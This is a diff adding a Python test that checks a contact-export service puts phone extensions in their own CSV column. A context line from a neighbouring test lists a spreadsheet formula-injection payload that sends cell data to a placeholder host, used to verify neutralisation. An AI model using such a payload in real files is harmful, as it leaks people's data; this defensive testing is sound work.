@@ -141,6 +141,22 @@ def test_columns_suit_the_channel(services, team, tmp_path):
     assert sms[1][-1] == "(418) 555-0123"
 
 
+def test_a_phone_list_carries_the_extension_in_its_own_column(services, team, tmp_path):
+    client = new_client(services, team.receptionist, "Poste", "Paula", phone="418 555-0123, poste 12")
+    grant(services, team.receptionist, client.id, (Purpose.FEEDBACK, Channel.PHONE), (Purpose.FEEDBACK, Channel.SMS))
+    calls = listed(
+        services.exports.export_contacts(team.manager, Purpose.FEEDBACK, Channel.PHONE, tmp_path / "c.csv")
+    )
+    assert calls == [
+        ["file_number", "last_name", "first_name", "language", "phone", "phone_extension"],
+        [client.file_number, "Poste", "Paula", "fr", "(418) 555-0123", "12"],
+    ]
+    sms = listed(
+        services.exports.export_contacts(team.manager, Purpose.FEEDBACK, Channel.SMS, tmp_path / "s.csv")
+    )
+    assert sms[1][-1] == "(418) 555-0123"
+
+
 def test_formula_cells_are_neutralised(services, team, tmp_path):
     names = ['=HYPERLINK("http://x.example/?"&A1,"x")', "+1", "-2", "@SUM(A1:A9)"]
     clients = [
